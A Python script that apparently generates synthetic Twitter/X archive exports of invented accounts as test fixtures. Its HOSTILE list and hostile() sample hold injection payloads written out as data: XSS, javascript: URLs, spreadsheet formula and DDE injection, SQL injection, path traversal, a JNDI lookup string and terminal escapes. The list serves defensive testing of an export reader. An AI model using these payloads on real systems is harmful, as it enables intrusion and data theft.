"""Write the sample archives: structurally exact exports of invented accounts, the same bytes on every machine.

    python sample_archives/make.py [NAME...] [-o DIR]

README.md beside this file says what each sample is meant to show.
"""

from __future__ import annotations

import argparse
import random
import sys
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import harbour
import x_export as x
from people import DELAYS, cast, everyday, follow_list, registry
from x_export import Draft, Export, Person, Record, Said, utc

HERE = Path(__file__).parent


def tweet_js_2020() -> Export:
    """One person, data/tweet.js with `[ {` on one line, no edit_info."""
    rng = random.Random("tweet_js_2020")
    me = Person(x.user_id(rng, utc("2013-05-04")), "MarenTarnholt", "Maren Tarnholt")
    made_at = utc("2020-08-19T09:41:07.318")
    friends = cast(rng, 12, utc("2018-01-01"))
    people = registry([me, *friends])
    export = Export(me, made_at, inline_arrays=True)
    drafts = everyday(rng, me, friends, utc("2017-11-10"), utc("2020-08-15"), 41, "kiln pots glaze clay bowls".split())
    posts = [x.tweet(rng, me, people, draft, edit_info=False) for draft in drafts]
    export.add("tweet", x.shards(rng, posts, 1))
    followers = follow_list(rng, 64, utc("2013-05-06"), utc("2020-08-10"))
    export.add("follower", x.people_list("follower", followers))
    followed = followers[::3] + follow_list(rng, 40, utc("2013-05-06"), utc("2020-08-10"))
    export.add("following", x.people_list("following", followed))
    texts = ("What a glaze!", "The kiln gods were kind today", "First bowl off the new wheel", "Ash glaze, cone 10")
    liked = [x.snowflake(rng, utc("2018-01-01") + timedelta(hours=rng.randrange(22_000))) for _ in range(70)]
    export.add("like", [x.like(post_id, rng.choice(texts)) for post_id in sorted(liked, key=int, reverse=True)])
    export.add("account", x.account(me, "2013-05-04T17:20:31.000Z", "maren@example.org"))
    export.add("profile", x.profile(me, "Weekend potter. Mostly mugs, some lids that fit.", "", "Wennport"))
    export.add("account-timezone", x.time_zone(me, "Amsterdam"))
    export.add("verified", [{"verified": {"accountId": me.account_id, "verified": False}}])
    said = [Said(utc("2020-02-03T18:00:04.120"), friends[0].account_id, "Do you still have that blue mug?")]
    said.append(Said(utc("2020-02-03T19:12:40.007"), me.account_id, "I do! Saturday at the market?"))
    talk = [x.conversation(rng, me, friends[0].account_id, said, edits=False)]
    export.add("direct-messages", talk)
    export.add("direct-message-headers", x.without_text(talk))
    export.add("ip-audit", x.ip_audit(me, [x.iso(made_at - timedelta(days=n, hours=3)) for n in range(9)]))
    export.empties(x.FILES_2020)
    export.manifest()
    return with_viewer(export)


def root_2018() -> Export:
    """All files in the root, no manifest and no posts; dates in milliseconds, lists sorted by id."""
    rng = random.Random("root_2018")
    me = Person(x.user_id(rng, utc("2012-02-11")), "orla_skarmere", "Orla Skarmere")
    export = Export(me, utc("2018-08-21T12:00:00"), folder="", inline_arrays=True)
    people = follow_list(rng, 190, utc("2012-03-01"), utc("2018-08-01"))
    ids = sorted(people, key=int, reverse=True)
    export.add("follower", x.people_list("follower", (an_id for an_id in ids if int(an_id) % 5 < 4), links=False))
    export.add("following", x.people_list("following", (an_id for an_id in ids if int(an_id) % 5 > 2), links=False))
    export.add("block", x.people_list("blocking", follow_list(rng, 4, utc("2014-03-01"), utc("2018-08-01")), links=False))
    export.add("mute")
    export.add("account", x.account(me, x.epoch(utc("2012-02-11T08:15:22")), "orla@example.com"))
    export.add("profile", x.profile(me, "Ferry timetables, knots & crosswords", "https://t.co/9tideTable", "Isle of Wenn"))
    export.add("account-timezone", x.time_zone(me, "Edinburgh"))
    export.add("screen-name-change", x.renamed(me, x.epoch(utc("2015-06-30T20:11:09")), "orla_on_wenn", "orla_skarmere"))
    export.add("verified", [{"verified": {"accountId": me.account_id, "verified": False}}])
    for name, lists in (("created", "ferries knots"), ("member", "islanders"), ("subscribed", "tides crosswords birds")):
        urls: list[object] = [f"https://twitter.com/orla_skarmere/lists/{word}" for word in lists.split()]
        export.add(f"lists-{name}", [{"userListInfo": {"urls": urls}}])
    talks = [small_talk(rng, me, other, utc("2016-01-10") + timedelta(days=90 * n)) for n, other in enumerate(people[:7])]
    for talk in talks:
        for message in talk["dmConversation"]["messages"]:  # type: ignore[index,call-overload]
            create = message["messageCreate"]
            create["createdAt"] = x.epoch(datetime.fromisoformat(create["createdAt"]))
            del create["reactions"], create["urls"]
    export.add("direct-messages", talks)
    export.add("direct-message-headers", x.without_text(talks))
    export.add("ip-audit", x.ip_audit(me, [x.epoch(utc("2018-08-20T07:00:00") - timedelta(days=n)) for n in range(11)]))
    export.empties("ad-engagements ad-impressions connected-application contact device-token moment personalization saved-search")
    return export


def multi_part() -> Export:
    """Posts in three parts, followers in two; line ends, a byte order mark and a semicolon as people's programs leave them."""
    rng = random.Random("multi_part")
    me = Person(x.user_id(rng, utc("2019-03-01T10:00:00")), "brackby_finn", "Finn Brackby")
    friends = cast(rng, 15, utc("2021-01-01"))
    people = registry([me, *friends])
    export = Export(me, utc("2024-05-20T18:22:45.901"))
    drafts = everyday(rng, me, friends, utc("2021-02-01"), utc("2024-05-18"), 60, "heron curlew tern gull osprey".split())
    posts = x.shards(rng, [x.tweet(rng, me, people, draft) for draft in drafts], 3)
    export.add("tweets", posts[:25])
    export.add("tweets", posts[25:45], part=1, newline=b"\r\n")
    export.add("tweets", posts[45:], part=2, before=b"\xef\xbb\xbf")
    export.add("tweet-headers", x.headers(me, posts))
    followers = follow_list(rng, 90, utc("2019-03-03"), utc("2024-05-19"))
    export.add("follower", x.people_list("follower", followers[:50]), after=b";")
    export.add("follower", x.people_list("follower", followers[50:]), part=1)
    export.add("following", x.people_list("following", followers[::4]), after=b"\n")
    export.add("account", x.account(me, "2019-03-01T10:00:00.412Z", "finn@example.net"), after=b";\n")
    export.add("profile", x.profile(me, "Birds before breakfast.", "https://t.co/bre4kfast0", "Brackby Marsh"))
    export.add("account-timezone", x.time_zone(me, ""))
    export.empties(x.FILES_2023)
    export.manifest()
    return with_viewer(export)


def almost_empty() -> Export:
    """A new account: two posts, three people followed, nobody yet who follows; all other files are there and empty."""
    rng = random.Random("almost_empty")
    me = Person(x.user_id(rng, utc("2025-02-12T19:30:11.020")), "wilma_pellsby7", "Wilma")
    export = Export(me, utc("2025-03-01T08:05:00.114"))
    drafts = [Draft(utc("2025-02-12T19:41:20.500"), "Hello? Is this thing on?")]
    drafts.append(Draft(utc("2025-02-26T07:02:58.031"), "Snow on the allotment again ❄️", likes=1, source=x.PHONE))
    posts = x.shards(rng, [x.tweet(rng, me, {}, draft) for draft in drafts], 1)
    export.add("tweets", posts)
    export.add("tweet-headers", x.headers(me, posts))
    export.add("follower")
    export.add("following", x.people_list("following", follow_list(rng, 3, utc("2025-02-12T20:00:00"), utc("2025-02-20"))))
    export.add("account", x.account(me, "2025-02-12T19:30:14.000Z", "wilma@example.com"))
    export.add("profile", x.profile(me, "", "", "", has_pictures=False))
    export.add("account-timezone", x.time_zone(me, ""))
    export.empties(x.FILES_2025)
    export.manifest()
    return with_viewer(export)


HOSTILE = (
    "<script>alert('harbour')</script>",
    "</script><img src=x onerror=alert(1)>",
    "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "\x9b31m and \x08\x08\x7f",
    "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fRTL",
    "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣",
    "nul \x00 inside",
    "'; DROP TABLE posts; --",
    'quote " double "" single \' back ` slash \\',
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "CON.txt",
    "NaN",
    "NULL",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
    "line one\nline two\r\nline three\u2028line four",
    "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ e\u0301 é",
    "\ufeffbom \ufffd \ufffe \u200b",
    "العربية עברית 日本語 ไทย हिन्दी",
    "[link](javascript:alert(1)) ![](https://example.org/x.png)",
    "javascript:alert(document.title)",
    "W" * 270,
    "",
    " ",
)


def hostile() -> Export:
    """Markup, formulas, escapes and half characters in every place where text can stand."""
    rng = random.Random("hostile")
    me = Person(x.user_id(rng, utc("2019-09-09")), '<b>"mallory"</b>', HOSTILE[1])
    people = [Person(x.user_id(rng, utc("2015-03-03") + timedelta(days=90 * n)), f"name{n}", text) for n, text in enumerate(HOSTILE)]
    export = Export(me, utc("2024-11-30T23:59:59.999"))
    rows: list[Record] = []
    for n, text in enumerate([*HOSTILE, *HOSTILE[:9], "half a character: \ud83d end"]):
        other, nasty = people[n % len(people)], HOSTILE[n % len(HOSTILE)]
        at = utc("2023-01-05T10:00:00") + timedelta(days=15 * n, seconds=n)
        draft = Draft(at, text, likes=n, source=f'<a href="https://example.org/{n}" rel="nofollow">{nasty}</a>')
        if n % 4 == 1:
            parent = x.snowflake(rng, at - timedelta(minutes=9 + n))
            draft = replace(draft, text=f"@{other.handle} {text}", reply_to=other, parent=parent)
        if n % 7 == 2:
            draft = replace(draft, text=f"RT @{other.handle}: {text}")
        draft = replace(draft, text=draft.text + " #tag https://example.org/path")
        row = x.tweet(rng, me, registry(people), draft)
        found = row["entities"]
        assert isinstance(found, dict)
        for kind, field, value in (
            ("hashtags", "text", nasty),
            ("urls", "expanded_url", ("javascript:alert(1)", f"https://example.org/{nasty}", f"https://example.com/?q={nasty}")[n % 3]),
            ("urls", "display_url", nasty),
            ("user_mentions", "screen_name", nasty if n % 2 else other.handle),
        ):
            for item in found[kind]:
                item[field] = value
        if draft.reply_to and n % 8 == 1:
            row["in_reply_to_screen_name"] = nasty
        row["lang"] = nasty[:12] if n % 6 == 5 else "en"
        rows.append(row)
    posts = x.shards(rng, rows, 1)
    export.add("tweets", posts)
    export.add("tweet-headers", x.headers(me, posts))
    export.add("note-tweet", [x.note(rng, utc("2023-01-05T10:00:00"), HOSTILE[0] + " long " * 60)])
    followers = [person.account_id for person in people]
    export.add("follower", x.people_list("follower", followers))
    export.add("following", x.people_list("following", followers[::2]))
    export.add("like", [x.like(x.snowflake(rng, utc("2024-01-01") + timedelta(hours=n)), text) for n, text in enumerate(HOSTILE)])
    export.add("account", x.account(me, "2019-09-09T00:00:00.000Z", "mallory+<b>@example.org"))
    export.add("profile", x.profile(me, "".join(HOSTILE[:9]), 'https://example.org/"><script>alert(1)</script>', "\u202e../.."))
    export.add("account-timezone", x.time_zone(me, "<i>Nowhere</i>/../Etc"))
    export.add("screen-name-change", x.renamed(me, "2021-04-01T00:00:00.000Z", "=1+1", me.handle))
    export.add("lists-created", x.user_lists(f"https://twitter.com/name1/lists/{n}-{text}" for n, text in enumerate(HOSTILE[:6])))
    times = [utc("2024-02-01") + timedelta(days=n) for n in range(len(HOSTILE))]
    talks = [
        x.conversation(rng, me, person.account_id, [Said(at, person.account_id, text)])
        for person, at, text in zip(people, times, HOSTILE, strict=True)
    ]
    export.add("direct-messages", talks)
    export.empties(x.FILES_2023)
    export.manifest()
    return with_viewer(export)


def owner_edited() -> Export:
    """Bare records, three other files of posts, and an owner who unpacked twice, cut, emptied and deleted."""
    rng = random.Random("owner_edited")
    me = Person(x.user_id(rng, utc("2016-10-08T12:00:00")), "quillwick_jo", "Jo Quillwick")
    friends = cast(rng, 9, utc("2018-01-01"))
    people = registry([me, *friends])
    export = Export(me, utc("2022-09-02T14:03:20.555"))
    drafts = everyday(rng, me, friends, utc("2018-04-01"), utc("2022-08-30"), 30, "rye sourdough crumb scones butter".split())
    posts = x.shards(rng, [x.tweet(rng, me, people, draft, edit_info=False) for draft in drafts], 2)
    export.add("tweet", [post["tweet"] for post in posts])
    export.add("tweet-headers", x.headers(me, posts))
    stale = [{"tweet": dict(post["tweet"], favorite_count="0")} for post in posts[-6:]]  # type: ignore[call-overload]
    export.add("tweet", stale, part=1, in_manifest=False)
    circle = [Draft(utc("2022-08-14T18:00:10.2"), "Only for you lot: the bakery said yes!", likes=4), Draft(utc("2022-08-20T06:30:00.9"), "Oven's broken. Tell nobody.")]  # fmt: skip
    rows = [dict(x.tweet(rng, me, people, draft, edit_info=False), scopes={"followers": False}) for draft in circle]
    export.add("twitter-circle-tweet", x.shards(rng, rows, 1))
    community = x.tweet(rng, me, people, Draft(utc("2022-07-02T11:11:11.1"), "Hello bread people! Rye question incoming.", likes=6), False)
    community_id = x.snowflake(rng, utc("2022-01-10"))
    community |= {"scopes": {"followers": False}, "community_id": community_id, "community_id_str": community_id}
    export.add("community-tweet", [{"tweet": community}])
    gone = [utc("2022-08-24T07:15:00"), utc("2022-08-29T20:40:31")]
    deleted = [{"id_str": x.snowflake(rng, at), "created_at": x.x_date(at), "text": "Wrong photo, sorry", "media": [], "share": {}} for at in gone]
    export.add("deleted-tweet", [{"tweet": row} for row in deleted])
    export.add("follower", x.people_list("follower", follow_list(rng, 45, utc("2016-10-10"), utc("2022-08-20"))))
    export.add("following", x.people_list("following", [friend.account_id for friend in friends]))
    export.add("account", x.account(me, "2016-10-08T12:00:01.000Z", ""))
    export.add("profile", x.profile(me, "Bread. Then more bread.", "https://t.co/rye0rye0ry", ""))
    export.add("account-timezone", x.time_zone(me, "Eastern Time (US & Canada)"))
    talks = [small_talk(rng, me, friend.account_id, utc("2021-05-05") + timedelta(days=40 * n)) for n, friend in enumerate(friends[:5])]
    export.add("direct-messages", talks, promise=6)
    export.add("direct-message-headers", x.without_text(talks), promise=6)
    export.add("ip-audit", [{}] * 37, is_missing=True)
    export.add("personalization", promise=1)
    export.add("hologram", [{"hologram": {"note": "a file that no reader can know yet"}}])
    export.add("fleet", in_manifest=False)
    export.empties(x.FILES_2020.replace("fleet fleet-mute", "").replace("twitter-article twitter-article-metadata", ""))
    export.manifest()
    return export


def headers_only() -> Export:
    """What is left when the owner took out tweets.js and account.js: dates of posts, followers, messages."""
    rng = random.Random("headers_only")
    me = Person(x.user_id(rng, utc("2017-06-06T06:06:06")), "una_osterby", "Una Osterby")
    friends = cast(rng, 8, utc("2019-01-01"))
    export = Export(me, utc("2023-10-05T07:45:12.640"))
    drafts = everyday(rng, me, friends, utc("2019-02-01"), utc("2023-10-01"), 80, "wool yarn sleeves mittens looms".split())
    posts = x.shards(rng, [x.tweet(rng, me, registry([me, *friends]), draft) for draft in drafts], 2)
    export.add("tweets", posts, is_missing=True)
    export.add("tweet-headers", x.headers(me, posts))
    export.add("account", [{}], is_missing=True)
    export.add("follower", x.people_list("follower", follow_list(rng, 50, utc("2017-06-10"), utc("2023-09-30"))))
    talks = [small_talk(rng, me, friend.account_id, utc("2020-05-05") + timedelta(days=99 * n)) for n, friend in enumerate(friends)]
    export.add("direct-messages", talks)
    export.manifest()
    return export


def small_talk(rng: random.Random, me: Person, other: str, start: datetime) -> Record:
    """They ask, and two times of three they are answered."""
    said = [Said(start, other, rng.choice(("Hello! Is this the right place to ask?", "Are you coming on Sunday?", "Thank you for the parcel!")))]
    if rng.random() < 2 / 3:
        said.append(Said(start + timedelta(minutes=x.draw(rng, DELAYS)), me.account_id, rng.choice(("Yes!", "I'll ask & let you know.", "🙂"))))
    return x.conversation(rng, me, other, said)


def with_viewer(export: Export) -> Export:
    """The files around the data: a read-me and the page that shows the export."""
    export.files["data/README.txt"] = b"This is a synthetic sample: the read-me of a real export explains its files here.\n"
    export.files["Your archive.html"] = b"<!doctype html><title>Your archive</title><p>The viewer of a real export starts here.\n"
    return export


SAMPLES: dict[str, Callable[[], Export]] = {
    "almost_empty": almost_empty,
    "harbour_lights": lambda: with_viewer(harbour.export_of(2025)),
    "harbour_lights_2024": lambda: with_viewer(harbour.export_of(2024)),
    "headers_only": headers_only,
    "hostile": hostile,
    "multi_part": multi_part,
    "owner_edited": owner_edited,
    "root_2018": root_2018,
    "tweet_js_2020": tweet_js_2020,
}
ZIPPED = {"harbour_lights", "harbour_lights_2024"}


def main(arguments: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Write the sample archives.")
    parser.add_argument("names", nargs="*", metavar="NAME", help=f"samples to write, default all: {', '.join(SAMPLES)}")
    parser.add_argument("-o", dest="folder", type=Path, default=HERE / "x", metavar="DIR", help="where to (default: sample_archives/x)")
    chosen = parser.parse_args(arguments)
    if unknown := [name for name in chosen.names if name not in SAMPLES]:
        parser.error(f"no sample is called {', '.join(unknown)}; expected one of {', '.join(SAMPLES)}")
    for name in chosen.names or SAMPLES:
        export = SAMPLES[name]()
        if name in ZIPPED:
            export.write_zip(chosen.folder / f"{name}.zip")
        else:
            export.write_folder(chosen.folder / name)
    return 0


if __name__ == "__main__":
    sys.exit(main())
